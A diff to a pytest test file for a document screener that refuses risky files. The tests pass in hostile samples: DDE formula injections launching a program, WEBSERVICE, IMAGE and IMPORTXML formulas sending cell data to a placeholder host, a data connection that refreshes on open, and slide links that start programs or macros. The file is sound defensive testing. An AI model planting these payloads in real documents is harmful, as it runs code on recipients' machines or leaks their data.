@@ -90,7 +90,11 @@ def test_simple_fields_and_links_of_workbooks_are_looked_at() -> None:
 
 
 @pytest.mark.parametrize(
-    "cell", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://x/"&A1)']
+    "cell",
+    [
+        *("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://x/"&A1)'),
+        *('=IMAGE("http://x/"&A1)', '=IMPORTXML("http://x/","//a")', '=RTD("a.b","","c")'),
+    ],
 )
 def test_formulas_that_start_or_send_are_refused(cell: str) -> None:
     quoted = '"' + cell.replace('"', '""') + '"'
@@ -126,3 +130,21 @@ def test_programs_inside_are_refused(name: str, content: bytes) -> None:
 def test_pdfs_that_send_or_start_are_refused(action: str) -> None:
     with pytest.raises(RefusedFile, match="scripts, attached files or a form"):
         examine("x.pdf", made.pdf(action=action))
+
+
+def test_tables_fetched_at_opening_and_shapes_that_start_programs_are_refused() -> None:
+    def connected(when: str) -> bytes:
+        body = f"<connections><connection id='1' {when}><webPr url='http://x/'/></connection></connections>"
+        return made.word("x", more={"xl/connections.xml": body})
+
+    with pytest.raises(RefusedFile, match="fetches a table"):
+        examine("x.docx", connected("refreshOnLoad='1'"))
+    assert examine("x.docx", connected("refreshOnLoad='0'")) is WORD
+    for action in ("ppaction://program", "ppaction://macro?name=a"):
+        slide = f"<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkClick action='{action}'/></p:sld>"
+        with pytest.raises(RefusedFile, match="starts another program"):
+            examine("x.docx", made.word("x", more={"ppt/slides/slide2.xml": slide}))
+    slide = (
+        "<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkClick action='ppaction://hlinksldjump'/></p:sld>"
+    )
+    assert examine("x.docx", made.word("x", more={"ppt/slides/slide2.xml": slide})) is WORD
